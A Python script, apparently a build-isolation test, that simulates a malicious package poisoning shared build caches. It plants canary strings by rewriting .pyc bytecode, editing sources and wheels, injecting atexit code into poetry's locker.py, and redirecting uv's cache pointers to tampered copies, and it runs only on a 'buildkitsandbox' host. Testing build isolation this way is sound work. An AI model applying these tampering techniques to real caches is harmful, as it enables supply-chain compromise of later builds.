"""What bad code does in a build: it leaves its name in all that a later build may take from a cache.

    python poison.py NAME

It is run by a build that has nothing to do with the project's, when a bad package is imported, by the .pth file of
one, and by one's build backend. What was changed in which way can be told by the name that is left:

    canary-NAME-bytecode    in a .pyc, whose header still has the true hash of the source
    canary-NAME-source      in a module that was unpacked
    canary-NAME-pointer     in a copy of one, to which the installer's notes lead
    canary-NAME-lock        in the metadata, by the package that reads the lock
    canary-NAME-download    in a wheel
"""

import contextlib
import marshal
import shutil
import socket
import sys
import zipfile
from pathlib import Path

CACHES = ("/root/.cache", "/files")
READER = "poetry/packages/locker.py"
# Runs in the stage that makes the project's metadata.
WRITE_METADATA = """
import atexit, pathlib

def write_metadata():
    for path in pathlib.Path("/lock").rglob("METADATA"):
        path.write_text("Keywords: {0}\\n" + path.read_text())

atexit.register(write_metadata)
"""


def files(pattern: str) -> list[Path]:
    """Return the files of that name in all caches."""
    return [path for cache in CACHES for path in Path(cache).rglob(pattern) if path.is_file() and not path.is_symlink()]


def poison_bytecode(name: str) -> None:
    for path in files("*.pyc"):
        data = path.read_bytes()
        code = marshal.loads(data[16:])
        path.write_bytes(data[:16] + marshal.dumps(code.replace(co_consts=(*code.co_consts, name))))


def poison_sources(name: str) -> None:
    for path in files("*.py"):
        path.write_text(f"{path.read_text(encoding='utf-8')}\n_ = {name!r}\n", encoding="utf-8")


def poison_lock(name: str) -> None:
    for path in files("locker.py"):
        if str(path).endswith(READER):
            path.write_text(path.read_text(encoding="utf-8") + WRITE_METADATA.format(name), encoding="utf-8")


def poison_pointers(name: str) -> None:
    """uv notes for a wheel under which name it is unpacked: let that be the name of a copy."""
    for folder in {path for cache in CACHES for path in Path(cache).glob("uv/archive-v*/*")}:
        copy = folder.with_name(folder.name[:-4] + "evil")
        pointers = [
            path
            for path in files("*")
            if path.suffix in (".http", ".rev") and folder.name.encode() in path.read_bytes()
        ]
        if pointers and not copy.exists():
            shutil.copytree(folder, copy, symlinks=True)
            for path in copy.rglob("*.py"):
                path.write_text(f"{path.read_text(encoding='utf-8')}\n_ = {name!r}\n", encoding="utf-8")
            for pointer in pointers:
                pointer.write_bytes(pointer.read_bytes().replace(folder.name.encode(), copy.name.encode()))


def poison_downloads(name: str) -> None:
    for path in files("*.whl"):
        with zipfile.ZipFile(path) as wheel:
            contents = {entry: wheel.read(entry) for entry in wheel.infolist()}
        with zipfile.ZipFile(path, "w") as wheel:
            for entry, data in contents.items():
                wheel.writestr(entry, data + f"\n_ = {name!r}\n".encode() if entry.filename.endswith(".py") else data)


def main(who: str) -> None:
    """Try everything, but nowhere else than in a build."""
    if socket.gethostname() != "buildkitsandbox":
        return
    for kind, poison in {
        "bytecode": poison_bytecode,
        "pointer": poison_pointers,
        "source": poison_sources,
        "lock": poison_lock,
        "download": poison_downloads,
    }.items():
        with contextlib.suppress(OSError, ValueError):
            poison(f"canary-{who}-{kind}")


if __name__ == "__main__":
    main(sys.argv[1])
